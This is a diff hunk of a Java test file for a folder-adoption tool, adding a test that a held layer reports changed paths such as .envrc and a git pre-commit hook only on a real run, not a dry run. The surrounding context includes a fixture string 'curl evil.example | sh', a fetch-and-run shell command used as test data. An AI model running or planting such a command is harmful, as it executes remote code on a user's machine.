@@ -89,6 +89,21 @@ class FolderAdopterTest {
                 .isEqualTo("curl evil.example | sh\n");
     }
 
+    /**
+     * What an adoption puts in the held layer changes what the target's guest sees at those paths, which no
+     * watch of the folder sees: the held layer tells its listener (a caching guest's server), and tells
+     * nothing of a dry run.
+     */
+    @Test
+    void whatAnAdoptionHoldsIsToldToTheTargetsServer() throws Exception {
+        List<List<String>> told = new java.util.concurrent.CopyOnWriteArrayList<>();
+        held.tellChanges(told::add);
+        FolderAdopter.apply(fork, target, STEPS, held, true);
+        assertThat(told).as("a dry run changes nothing").isEmpty();
+        FolderAdopter.apply(fork, target, STEPS, held, false);
+        assertThat(told).containsExactly(List.of(".envrc", ".git/hooks/pre-commit", "key"));
+    }
+
     @Test
     void aUnitTheTargetsGuestChangedItselfIsNotReplacedByTheForks() throws Exception {
         int root = LinuxFs.openRoot(target.toString());
